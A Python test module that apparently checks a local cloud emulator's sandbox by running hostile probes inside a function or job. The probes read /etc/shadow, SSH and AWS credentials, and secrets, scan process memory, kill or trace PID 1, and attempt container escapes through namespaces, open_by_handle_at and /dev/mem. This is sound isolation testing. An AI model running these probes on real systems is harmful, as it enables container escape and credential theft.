"""What hostile code tries from inside a function or a job: run there as a program, it prints what it got.

It is plain Python without imports of ours: as `intruder.attack(plan)` in a function's package, or as the script of a
processing job, which finds the plan beside it. Every try is counted, so that the report says how many there were.
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import mmap
import os
import platform
import subprocess
import sys
from pathlib import Path

UNREADABLE = (
    "/etc/shadow",
    "/etc/gshadow",
    "/etc/sudoers",
    "/etc/ssl/private",
    "/etc/ssh",
    "/etc/environment",
    "/etc/profile.d",
    "/root/.ssh",
    "/root/.aws",
    "/root/.bashrc",
    "/home",
    "/proc/kcore",
    "/proc/kmsg",
    "/dev/mem",
    "/dev/kmsg",
    "/dev/vda",
    "/dev/sda",
    "/dev/pts",
    "/dev/tty",
    "/sys/kernel",
    "/sys/fs/cgroup",
    "/run/secrets",
    "/run/user",
    "/var/log",
    "/var/lib",
    "/var/run/docker.sock",
    "/mnt",
    "/srv",
    "/media",
    "/boot",
)
UNWRITABLE = (
    "/usr/bin/intruder",
    "/usr/lib/intruder",
    "/etc/ld.so.preload",
    "/etc/passwd",
    "/etc/ssl/certs/intruder",
    "/proc/sys/kernel/core_pattern",
    "/proc/sysrq-trigger",
    "/proc/1/oom_score_adj",
    "/proc/1/mem",
    "/dev/intruder",
)
"""For both: `/opt/ml` and `/tmp` are a job's, a function has `/tmp`."""


def attack(plan: dict) -> dict:
    """Try everything; gives what succeeded, and how many tries there were.

    Args:
        plan: `unreadable` and `unwritable` (further paths), `marks` (words in the names of planted files), `secrets`
            (digests of texts that must not be found in any memory: `length` and `sha256`), `processes` (numbers of
            processes outside).
    """
    own = plan.get("own", ())
    tries = [
        *((f"read {path}", reads, path) for path in (*UNREADABLE, *plan["unreadable"])),
        *((f"write {path}", writes, path) for path in (*UNWRITABLE, *plan["unwritable"]) if path not in own),
        *((f"process {number}", sees_process, number) for number in plan["processes"]),
        *((f"find {mark}", finds, mark) for mark in plan["marks"]),
        *((f"find secret {number}", remembers, each) for number, each in enumerate(plan["secrets"])),
        *((name, one, None) for name, one in TRICKS.items()),
    ]
    got = {}
    for name, trick, what in tries:
        with contextlib.suppress(OSError, ValueError, subprocess.SubprocessError):
            found = trick(what)
            if found:
                got[name] = str(found)[:200]
    return {"tries": len(tries), "got": got}


def reads(path: str) -> object:
    """Something of a file or folder, whatever the way."""
    if Path(path).is_dir():
        return _names(path)
    with Path(path).open("rb") as file:
        return file.read(16)


def writes(path: str) -> object:
    """Whether a file could be opened for writing."""
    with Path(path).open("ab"):
        return True


def sees_process(number: int) -> object:
    """Anything of a process outside. Its number may be one of ours: then the program tells."""
    for name in ("environ", "mem", "maps", "cmdline"):
        with contextlib.suppress(OSError), Path(f"/proc/{number}/{name}").open("rb") as file:
            text = file.read(4096) if name != "mem" else b""
            if b"local_aws serve" in text.replace(b"\0", b" ") or b"pytest" in text:
                return name
    return None


def finds(mark: str) -> object:
    """A planted file's name, anywhere but in the kernel's own file system."""
    for folder, folders, names in os.walk("/"):
        if folder == "/":
            folders[:] = [name for name in folders if name not in ("proc", "usr")]
        for name in (*folders, *names):
            if mark in name:
                return str(Path(folder, name))
    return None


def remembers(secret: dict) -> object:
    """Whether a text of this digest stands in this process's memory, its environment, or in that of process 1."""
    import hashlib
    import re

    wanted = re.compile(rb"[A-Za-z0-9_+/-]{%d,}" % secret["length"])
    for process in ("self", "1"):
        with contextlib.suppress(OSError):
            maps = Path(f"/proc/{process}/maps").read_text().splitlines()
            with Path(f"/proc/{process}/mem").open("rb", 0) as memory:
                for line in maps:
                    start, end = (int(part, 16) for part in line.split()[0].split("-"))
                    if "rw" not in line.split()[1]:
                        continue
                    memory.seek(start)
                    with contextlib.suppress(OSError, OverflowError):
                        for found in wanted.findall(memory.read(end - start)):
                            for at in range(len(found) - secret["length"] + 1):
                                piece = found[at : at + secret["length"]]
                                if hashlib.sha256(piece).hexdigest() == secret["sha256"]:
                                    return process
    return None


def _names(folder: str) -> list[str]:
    return [path.name for path in Path(folder).iterdir()]


def _call(name: str, *arguments: object) -> bool:
    return getattr(ctypes.CDLL(None, use_errno=True), name)(*arguments) == 0


def _rights(_: object) -> object:
    lines = Path("/proc/self/status").read_text().splitlines()
    fields = dict(line.split(":\t", 1) for line in lines if ":\t" in line)
    held = {name: fields[name] for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")}
    return {name: value for name, value in held.items() if int(value, 16)} or fields["NoNewPrivs"] != "1"


def _mounts(_: object) -> object:
    return _call("mount", b"none", b"/tmp", b"tmpfs", 0, None) or _call("umount2", b"/proc", 2)


def _new_users(_: object) -> object:
    """A user namespace of one's own may exist: it must not let the read-only be written to, or uncover anything."""
    program = (
        "import ctypes, os\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "libc.unshare(0x10000000 | 0x00020000)\n"
        "remounted = libc.mount(None, b'/usr', None, 0x1020, None) == 0 and os.access('/usr/bin', os.W_OK)\n"
        "print(remounted, libc.umount2(b'/usr', 2) == 0, libc.umount2(b'/proc', 2) == 0)\n"
    )
    said = subprocess.run(
        [sys.executable, "-I", "-S", "-c", program], capture_output=True, text=True, timeout=20
    ).stdout
    return said if "True" in said else None


def _becomes_root(_: object) -> object:
    before = os.getuid()
    for number in (0, 1000, 65534):
        if number != before:
            with contextlib.suppress(OSError):
                os.setuid(number)
                return number
    return None


def _traces_the_first(_: object) -> object:
    return _call("ptrace", 16, 1, 0, 0)


def _kills_the_first(_: object) -> object:
    os.kill(1, 9)
    os.kill(1, 19)
    return not Path("/proc/1").exists()


def _devices(_: object) -> object:
    os.mknod("/tmp/intruder-disk", 0o60644, os.makedev(254, 0))
    return True


def _other_root(_: object) -> object:
    os.chroot("/tmp")
    return True


def _old_root(_: object) -> object:
    """Paths that lead to what was the root before: through descriptors, working folders, links of /proc."""
    for number in (1, "self"):
        for name in ("root", "cwd"):
            with contextlib.suppress(OSError):
                if {"boot", "home", "srv"} & set(_names(f"/proc/{number}/{name}/../../../..")):
                    return f"{number}/{name}"
    for descriptor in _names("/proc/self/fd"):
        with contextlib.suppress(OSError):
            target = str(Path(f"/proc/self/fd/{descriptor}").readlink())
            if target.startswith("/") and not target.startswith(
                ("/dev/null", "/proc/", "/tmp/", "/opt/ml/", "/var/task")
            ):
                return target
    return None


def _strangers(_: object) -> object:
    """Processes that are not of this environment."""
    own = {1, os.getpid(), os.getppid()}
    return {int(name) for name in _names("/proc") if name.isdigit()} - own


def _shared_memory(_: object) -> object:
    return Path("/proc/sysvipc/shm").read_text().splitlines()[1:]


def _opens_by_handle(_: object) -> object:
    """open_by_handle_at, the old way out of a container."""
    numbers = {"x86_64": 304, "aarch64": 265}
    handle = (ctypes.c_uint32 * 6)(8, 1, 2, 0)
    folder = os.open("/usr", os.O_RDONLY)
    try:
        return ctypes.CDLL(None).syscall(numbers.get(platform.machine(), 265), folder, handle, os.O_RDONLY) >= 0
    finally:
        os.close(folder)


def _kernel_memory(_: object) -> object:
    with Path("/dev/mem").open("rb") as file:
        return mmap.mmap(file.fileno(), 4096)


TRICKS = {
    "holds rights": _rights,
    "mounts": _mounts,
    "gains rights in a user namespace": _new_users,
    "becomes another user": _becomes_root,
    "traces process 1": _traces_the_first,
    "kills process 1": _kills_the_first,
    "makes a device": _devices,
    "changes its root": _other_root,
    "finds the old root": _old_root,
    "sees other processes": _strangers,
    "sees shared memory": _shared_memory,
    "opens a file by its handle": _opens_by_handle,
    "maps the kernel's memory": _kernel_memory,
}


if __name__ == "__main__":
    plan = json.loads(Path(__file__).with_name("plan.json").read_text())
    Path("/opt/ml/processing/output/got.json").write_text(json.dumps(attack(plan)))
